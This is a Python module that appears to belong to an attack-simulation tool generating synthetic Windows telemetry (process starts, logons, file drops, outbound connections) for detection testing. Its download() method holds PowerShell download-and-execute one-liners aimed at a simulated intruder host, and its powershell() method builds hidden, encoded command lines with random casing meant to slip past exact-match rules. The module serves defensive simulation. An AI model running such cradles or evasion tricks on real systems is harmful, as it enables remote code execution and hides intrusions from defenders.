"""Who plays an attack: the intruder, the victims and the tools of one run, drawn from the run's own seed."""

from __future__ import annotations

import random
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tocsin.simulate.actions import Action, Connection, FileCreate, Logon, LogonType, ProcessStart
from tocsin.simulate.organisation import SYSTEM, Account, Machine, Organisation, stranger
from tocsin.simulate.software import CMD, POWERSHELL, SYSTEM32, encoded

_SYLLABLES = ("ba", "ce", "di", "fo", "ga", "ki", "lu", "ma", "ne", "po", "ra", "su", "ti", "vo", "xe", "zu")

_FOLDERS = {"wmic.exe": "\\wbem", "mofcomp.exe": "\\wbem", "scrcons.exe": "\\wbem", "ssh.exe": "\\OpenSSH"}


@dataclass(frozen=True, slots=True)
class Act:
    """One action of an attack and what it stands for.

    Attributes:
        step: a short name, unique within its scenario; several actions may belong to one step.
        technique: the ATT&CK (sub-)technique that the step uses.
    """

    step: str
    technique: str
    action: Action


@dataclass(frozen=True, slots=True)
class Scenario:
    """A chain of steps that an intruder takes.

    Attributes:
        name: as the ground truth writes it, such as `brute-force`.
        title: one line for a human.
        play: yields the actions of one run in order.
        haste: how many actions come at a stretch; high where a machine types.
    """

    name: str
    title: str
    play: Callable[[Cast], Iterator[Act]]
    haste: int = 1


class Cast:
    """The roles of one run, and what the intruder makes up as they go.

    Attributes:
        intruder: their address on the internet.
        victim, desk: whose account and machine they hold.
        admin: an administrator whose password they got hold of.
        implant: path of the program that they brought along.
    """

    def __init__(self, organisation: Organisation, rng: random.Random) -> None:
        self.organisation = organisation
        self.rng = rng
        self.intruder = stranger(rng)
        self.victim: Account = rng.choice(organisation.people)
        self.admin: Account = rng.choice(organisation.admins)
        self.service: Account = rng.choice(organisation.services)
        self.server: Machine = rng.choice(organisation.servers)
        self.controller: Machine = rng.choice(organisation.controllers)
        self.implant = self.dropped("exe")

    @property
    def desk(self) -> Machine:
        """Return the victim's own machine."""
        return self.victim.home

    def run(
        self,
        line: str,
        *,
        image: str = "",
        parent: str = CMD,
        account: Account | None = None,
        machine: Machine | None = None,
    ) -> ProcessStart:
        """Return the start of a program: by the victim on their machine, unless said otherwise.

        Args:
            line: the command line.
            image: the program's path; empty for the part of Windows that the line begins with.
            parent: who starts it.
            account: who runs it; anyone but the victim has administrative rights.
            machine: where; the account's own machine if not given.
        """
        account = account or self.victim
        where = machine or (self.desk if account == SYSTEM else account.home)
        elevated = account is not self.victim
        path = image or system_program(line)
        return ProcessStart(account, where, path, line, parent, f'"{parent}"', elevated)

    def powershell(
        self,
        script: str,
        *,
        parent: str = CMD,
        account: Account | None = None,
        machine: Machine | None = None,
    ) -> ProcessStart:
        """Return a start of PowerShell with an encoded script, written in one of the ways it may be."""
        flags = self.one_of(
            "-nop -w hidden", "-NoP -sta -NonI -W Hidden", "-NoProfile -WindowStyle Hidden", ""
        )
        name = self.cased(self.one_of("-EncodedCommand", "-EncodedCommand", "-encodedcommand", "-enc", "-e"))
        line = " ".join(f"powershell.exe {flags} {name} {encoded(script)}".split())
        return self.run(line, image=POWERSHELL, parent=parent, account=account, machine=machine)

    def log_on(
        self, account: Account, machine: Machine, address: str, type_: LogonType, *, success: bool = True
    ) -> Logon:
        """Return a logon, or an attempt at one."""
        privileged = success and account in self.organisation.admins
        return Logon(account, machine, address, success, type_, privileged)

    def file(
        self, path: str, image: str, *, account: Account | None = None, machine: Machine | None = None
    ) -> FileCreate:
        """Return the making of a file: by the victim on their machine, unless said otherwise."""
        account = account or self.victim
        return FileCreate(account, machine or account.home, image, path)

    def call_home(self, image: str, *, machine: Machine | None = None) -> Connection:
        """Return a connection to the intruder's server."""
        port = self.rng.choice((80, 443, 4444, 8080, 8443))
        return Connection(self.victim, machine or self.desk, image, self.intruder, port)

    def word(self) -> str:
        """Return a made-up name for a file, a task or a service."""
        return "".join(self.rng.choice(_SYLLABLES) for _ in range(self.rng.randint(2, 4)))

    def noise(self, length: int) -> str:
        """Return random letters, as tools name what they leave behind."""
        return "".join(self.rng.choices(string.ascii_letters, k=length))

    def password(self) -> str:
        """Return a password that satisfies the usual rules."""
        return f"{self.word().title()}{self.rng.choice('!#$%')}{self.rng.randrange(10, 99)}"

    def one_of(self, *texts: str) -> str:
        """Return one of the texts."""
        return self.rng.choice(texts)

    def cased(self, text: str) -> str:
        """Return the text as it is, in capitals, or in the mixed case that hides from exact matches."""
        style = self.rng.random()
        if style < 0.5:
            return text
        if style < 0.6:
            return text.upper()
        return "".join(c.upper() if self.rng.random() < 0.4 else c for c in text)

    def url(self, extension: str) -> str:
        """Return an address on the intruder's server."""
        port = self.rng.choice((80, 443, 8080, 8443))
        return f"http://{self.intruder}:{port}/{self.word()}.{extension}"

    def dropped(self, extension: str) -> str:
        """Return the path of a file in a folder that everybody may write to."""
        folder = self.one_of(
            f"C:\\Users\\{self.victim.name}\\AppData\\Local\\Temp",
            "C:\\Users\\Public",
            "C:\\ProgramData",
            "C:\\Windows\\Temp",
            f"C:\\Users\\{self.victim.name}\\AppData\\Roaming",
        )
        return f"{folder}\\{self.word()}.{extension}"

    def download(self) -> str:
        """Return a script that fetches another one, and runs it without leaving a file."""
        return self.one_of(
            f"IEX (New-Object Net.WebClient).DownloadString('{self.url('ps1')}')",
            f"$w=New-Object System.Net.WebClient;iex $w.DownloadString('{self.url('txt')}')",
            f"iwr -UseBasicParsing {self.url('txt')} | iex",
            f"Invoke-Expression (Invoke-RestMethod -Uri {self.url('ps1')})",
        )


def system_program(line: str) -> str:
    """Return the path of the part of Windows that a command line begins with."""
    name = line.split(maxsplit=1)[0].strip('"').rpartition("\\")[2]
    if name.lower() == "powershell.exe":
        return POWERSHELL
    return f"{SYSTEM32}{_FOLDERS.get(name.lower(), '')}\\{name.lower()}"
